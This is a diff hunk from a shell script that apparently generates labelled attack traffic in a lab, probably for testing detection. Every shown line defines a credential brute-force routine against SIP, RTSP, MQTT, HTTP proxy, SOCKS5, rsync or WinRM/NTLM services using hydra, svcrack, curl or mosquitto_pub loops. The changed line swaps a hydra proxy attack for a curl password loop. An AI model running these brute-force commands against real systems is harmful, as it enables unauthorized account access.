@@ -44,7 +44,7 @@ out sweep_crowd host-sweep bots $ZONE "$(crowd 8)"; sweep_crowd() { own 60 crowd
 out guess_sip brute-force bad $API; guess_sip() { on 30 svcrack -u 100 -d "$(words 60)" $API; }
 out guess_rtsp brute-force bad2 $API; guess_rtsp() { (cd "$LAB_DIR" && on 30 hydra -I -t 4 -l admin -P "$(words 60)" rtsp://$API); }
 out guess_mqtt brute-force bad $API; guess_mqtt() { on 40 bash -c 'while read -r w; do mosquitto_pub -h 10.140.3.81 -u sensor -P "$w" -t x -m y; sleep 0.2; done <"$0"' "$(words 50)"; }
-out guess_proxy brute-force bad2 $API; guess_proxy() { (cd "$LAB_DIR" && on 30 hydra -I -t 4 -s 3128 -l admin -P "$(words 60)" http-proxy://$API); }
+out guess_proxy brute-force bad2 $API; guess_proxy() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null -x "http://admin:$w@10.140.3.81:3128" http://203.0.113.200/; sleep 0.2; done <"$0"' "$(words 50)"; }
 out guess_socks brute-force bad $API; guess_socks() { (cd "$LAB_DIR" && on 30 hydra -I -t 4 -l admin -P "$(words 60)" socks5://$API); }
 out guess_rsync brute-force bad2 $API; guess_rsync() { on 40 bash -c 'while read -r w; do RSYNC_PASSWORD="$w" rsync -q --contimeout=3 rsync://admin@10.140.3.81/backup/; sleep 0.2; done <"$0"' "$(words 50)"; }
 out guess_ntlm brute-force bad $API; guess_ntlm() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null --ntlm -u "administrator:$w" -d x http://10.140.3.81:5985/wsman; sleep 0.2; done <"$0"' "$(words 50)"; }
